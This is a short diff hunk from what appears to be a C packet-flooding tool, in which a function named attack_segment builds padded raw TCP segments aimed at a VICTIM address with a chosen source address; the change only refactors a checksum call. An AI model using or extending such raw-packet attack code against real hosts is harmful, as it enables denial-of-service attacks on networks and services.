@@ -181,7 +181,7 @@ static inline void attack_segment(struct attack *a, uint32_t src, struct tcp_hea
     h.destination = h.destination ? h.destination : PORT;
     size_t head = tcp_write(&h, body);
     memset(body + head, 'x', len);
-    tcp_checksum(body, head, (struct span[2]){{body + head, len}, {0}}, src, VICTIM);
+    tcp_checksum(body, head, &(struct span){body + head, len}, 1, src, VICTIM);
     attack_raw(a, (struct ip_fields){.src = src, .dst = VICTIM, .protocol = IP_TCP, .ttl = 64}, body, head + len);
 }
 
